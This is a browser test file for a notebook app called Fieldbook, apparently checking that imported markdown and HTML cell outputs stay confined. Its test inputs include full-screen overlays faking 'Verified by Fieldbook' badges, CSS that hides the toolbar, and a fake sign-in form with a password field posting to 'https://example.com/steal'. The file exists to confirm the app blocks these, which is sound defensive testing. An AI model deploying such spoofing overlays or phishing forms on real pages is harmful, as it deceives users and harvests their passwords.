/**
 * What a notebook brings stays in its own box: imported prose cannot cover or restyle the app's
 * controls, and a trusted HTML output's styles, fixed boxes and forms cannot reach the page.
 */
import { describe, expect, it } from 'vitest';
import { addCodeCell, openNotebook, runInPlace, useSession } from './browser';
import { importText } from './cells';

const s = useSession();

/** True when a click at the centre of the named button would land on that button. */
async function buttonOnTop(name: string): Promise<boolean> {
  const button = s.page.getByRole('button', { name }).first();
  return button.evaluate((el) => {
    const r = el.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    return hit !== null && (hit === el || el.contains(hit));
  });
}

const SPOOF = [
  '---',
  'id: spoof',
  'title: Spoof',
  '---',
  '# Looks harmless',
  '',
  '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:#0a0;color:#fff;font-size:3rem">Verified by Fieldbook</div>',
  '<p class="fb-drop">Verified</p>',
  '<p style="position:absolute;top:0;left:0;z-index:99999">Trusted</p>',
  '',
  '```ts id=a',
  '1 + 1',
  '```',
  '',
].join('\n');

describe('imported prose', () => {
  it("cannot cover the app's buttons or leave its box", async () => {
    await s.page.goto(s.baseUrl);
    await importText(s.page, 'spoof.md', SPOOF);
    await s.page.waitForURL(/#\/imported\/spoof$/);
    await s.page.locator('fb-cell[data-cell-id="a"]').waitFor();
    await s.page.getByText('Verified by Fieldbook').waitFor({ state: 'attached' });
    for (const name of ['Trust this notebook', 'Import notebook', 'Storage']) expect(await buttonOnTop(name), name).toBe(true);
    expect(await buttonOnTop('Run all')).toBe(true);
    // Each spoofing element lies within the prose box it came in.
    const escaped = await s.page.evaluate(() =>
      ['Verified by Fieldbook', 'Verified', 'Trusted'].filter((text) => {
        const el = [...document.querySelectorAll('.fb-prose *')].find((e) => e.textContent === text && !e.children.length);
        if (!el) return false;
        const box = el.closest('.fb-prose')!.getBoundingClientRect();
        const r = el.getBoundingClientRect();
        return r.left < box.left - 1 || r.top < box.top - 1 || r.right > box.right + 1 || r.bottom > box.bottom + 1;
      }),
    );
    expect(escaped).toEqual([]);
  });
});

describe('a trusted HTML output', () => {
  it('keeps its styles to itself and cannot cover the page', async () => {
    await openNotebook(s, '00-start-here');
    const before = await s.page.evaluate(() => ({
      body: getComputedStyle(document.body).backgroundColor,
      toolbar: getComputedStyle(document.querySelector('.fb-toolbar')!).display,
    }));
    const id = await addCodeCell(
      s.page,
      [
        'display.html(`<p class="probe">styled inside</p>',
        '<style>.fb-toolbar, .fb-header { display: none !important } body { background: rgb(255, 0, 0) !important } p.probe { color: rgb(1, 2, 3) }</style>',
        '<div style="position:fixed;inset:0;z-index:99999;background:#0a0">cover</div>`)',
      ].join('\n'),
    );
    expect(await runInPlace(s.page, id)).toBe('ok');
    const probe = s.page.locator(`fb-cell[data-cell-id="${id}"] p.probe`);
    await probe.waitFor();
    // Its own style applies inside the output…
    expect(await probe.evaluate((el) => getComputedStyle(el).color)).toBe('rgb(1, 2, 3)');
    // …and nowhere else.
    const after = await s.page.evaluate(() => ({
      body: getComputedStyle(document.body).backgroundColor,
      toolbar: getComputedStyle(document.querySelector('.fb-toolbar')!).display,
    }));
    expect(after).toEqual(before);
    for (const name of ['Run all', 'Import notebook']) expect(await buttonOnTop(name), name).toBe(true);
  });

  it('shows no form and no password field', async () => {
    // Another notebook, so the earlier output is off the page.
    await openNotebook(s, 'fraud-detection');
    const id = await addCodeCell(
      s.page,
      'display.html(`<form action="https://example.com/steal"><label>Password <input type="password" name="pw"></label><input type="text" name="user"><button>Sign in</button></form><p class="after-form">after</p>`)',
    );
    expect(await runInPlace(s.page, id)).toBe('ok');
    const output = s.page.locator(`fb-cell[data-cell-id="${id}"] .fb-outputs`);
    await output.locator('p.after-form').waitFor();
    expect(await output.locator('form').count()).toBe(0);
    expect(await output.locator('input[type="password"]').count()).toBe(0);
  });
});

describe('errors', () => {
  it('logged none', () => {
    expect(s.errors).toEqual([]);
  });
});
